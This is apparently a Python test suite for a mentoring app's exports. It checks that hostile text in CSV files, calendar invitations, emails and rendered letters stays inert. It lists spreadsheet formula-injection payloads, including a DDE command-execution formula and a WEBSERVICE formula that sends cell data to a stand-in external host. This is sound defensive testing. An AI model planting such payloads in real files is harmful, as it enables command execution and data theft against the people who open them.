"""A-D2: whatever somebody wrote, in whichever field of whichever export, stays text and does nothing."""

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP
from html.parser import HTMLParser
from typing import TypeVar

import msgspec
import vobject
from icalendar import Calendar
from msgspec import Struct

from hostile_values import VALUES
from mentoring.calendars.entry import Entry, Party
from mentoring.calendars.writing import feed, invitation
from mentoring.messages.mail import Sender, Words, mail_of
from mentoring.messages.rendering import render
from mentoring.reports.csv_file import csv_bytes
from mentoring.schemes.scheme import Message

Filled = TypeVar("Filled", bound=Struct)

NOW = datetime(2030, 1, 7, 10, tzinfo=UTC)
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1",
    "\u200b=1+1", "\uff1d1+1", "a;=1+1", "a\t=1+1", 'a",=1+1', "a\r\n=1+1", '=HYPERLINK("https://elsewhere.example","x")',
    "=cmd|' /C calc'!A0", "'=1+1", "\0=1+1", '=WEBSERVICE("https://elsewhere.example/?"&A1)',
)  # fmt: skip
WRITTEN = tuple(
    each.replace("\0", "\ufffd")
    for each in (*FORMULAS, *VALUES.values())
    if len(each) < 4000 and not re.search("[\ud800-\udfff]", each)
)
"""What a form lets in, and a database holds."""
ENTRY = Entry(
    uid="one@ucl.example", start=NOW, end=NOW.replace(hour=11), zone="Europe/London", summary="Meeting",
    organiser=Party("Mentoring", "mentoring@ucl.example"), written_at=NOW, text="A text", where="Here",
    link="https://mentoring.example/ucl/", attendee=Party("Amara Quarto", "amara@ucl.example"),
)  # fmt: skip
WORDS = Words("amara@ucl.example", "News", "Dear Amara", "<p>Dear Amara</p>", "<one@ucl.example>", NOW)
SENDER = Sender("UCL", "mentoring@mentoring.example", "team@ucl.example")


def with_each(struct: Filled, names: set[str]) -> Iterator[tuple[str, str, Filled]]:
    """(field, text, struct) with each hostile text in each of these text fields."""
    for name in sorted(names):
        for text in WRITTEN:
            yield name, text, msgspec.structs.replace(struct, **{name: text})


def texts(struct: Struct) -> set[str]:
    """The fields that hold text."""
    return {name for name in struct.__struct_fields__ if isinstance(getattr(struct, name), str)}


def test_no_cell_of_a_table_begins_a_formula_or_another_cell() -> None:
    for place in range(4):
        for text in WRITTEN:
            cells = ["Name", "Answer", 5, 2.5]
            cells[place] = text
            written = csv_bytes([text if place == 1 else "Name", "B", "C", "D"], [cells, ["last", None, 1, 2]]).decode()
            read = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline="")))
            assert (len(read), [len(row) for row in read], read[2]) == (3, [4, 4, 4], ["last", "", "1", "2"])
            found = read[1][place]
            assert found.replace("'", "") == text.replace("'", "")
            for row in read:
                for cell in row:
                    assert re.match(r"[\s\u200b\ufeff\u202e\u2066\u200f]*[=+\-@\t\r\uff1d]", cell) is None, (text, cell)
            assert [
                cell for cell in re.split("[;\t\r\n]", found) if cell.lstrip().startswith(("=", "+", "-", "@"))
            ] == []


def test_no_text_of_a_calendar_becomes_a_line_or_an_entry_of_its_own() -> None:
    usual = lines_of(invitation(ENTRY))
    for name, text, entry in with_each(ENTRY, texts(ENTRY) - {"uid", "zone", "link"}):
        written = invitation(entry)
        assert lines_of(written) | {"DESCRIPTION", "LOCATION"} == usual, (name, text)
        assert vobject.readOne(written).vevent.uid.value == ENTRY.uid
    for party in ("organiser", "attendee"):
        for name in ("name", "address"):
            for text in WRITTEN:
                changed = msgspec.structs.replace(getattr(ENTRY, party), **{name: text})
                entry = msgspec.structs.replace(ENTRY, **{party: changed})
                assert lines_of(invitation(entry)) == usual, (party, name, text)
    for text in WRITTEN:
        made = Calendar.from_ical(
            feed([ENTRY, msgspec.structs.replace(ENTRY, summary=text)], name=text, refresh=NOW - NOW)
        )
        assert len(made.events) == 2


def lines_of(written: str) -> set[str]:
    """The names of a calendar's lines: of one entry, none longer than 75 octets."""
    assert max(len(line) for line in written.encode().split(b"\r\n")) <= 75
    assert "\n" not in written.replace("\r\n", "")
    whole = written.replace("\r\n ", "").split("\r\n")
    assert sum(line == "BEGIN:VEVENT" for line in whole) == 1
    return {re.split("[:;]", line)[0] for line in whole if line}


def test_no_text_of_a_letter_becomes_a_header_or_a_second_recipient() -> None:
    usual = headers_of(mail_of(WORDS, SENDER))
    for name, text, words in with_each(WORDS, texts(WORDS) - {"message_id"}):
        try:
            assert headers_of(mail_of(words, SENDER)) == usual, (name, text)
        except ValueError:  # said to whoever looks after the post, and never sent
            assert name == "to" or len(text.splitlines()) > 1, (name, text)
    for name, text, sender in with_each(SENDER, {"name"}):
        assert headers_of(mail_of(WORDS, sender)) == usual, (name, text)


def headers_of(mail: EmailMessage) -> list[str]:
    """The names of a mail's headers as another program reads them; it goes to one person."""
    read = message_from_bytes(mail.as_bytes(), policy=SMTP)
    assert [len(read[name].addresses) for name in ("From", "To", "Reply-To")] == [1, 1, 1]
    return sorted(each for each in read if not each.startswith(("MIME", "Content")))


class Tags(HTMLParser):
    """The tags of a page, and where it leads."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(f"{tag} {sorted(attrs)}")


def test_no_value_in_a_letter_becomes_markup_or_a_link() -> None:
    template = Message(
        subject={"en": "For {person.first_name}"}, body={"en": "{person.first_name} at {institution.name}: {link}"}
    )
    values = {"person.first_name": "Amara", "institution.name": "UCL", "link": "https://mentoring.example/ucl/"}
    for name in ("person.first_name", "institution.name"):
        for text in WRITTEN:
            letter = render(template, {**values, name: text})
            tags = Tags()
            tags.feed(letter.html)
            assert {each.split()[0] for each in tags.found} <= {"html", "head", "meta", "title", "body", "p", "br", "a"}
            assert [each for each in tags.found if each.startswith("a ")] == [
                "a [('href', 'https://mentoring.example/ucl/')]"
            ]
            assert letter.subject.splitlines() == [letter.subject]
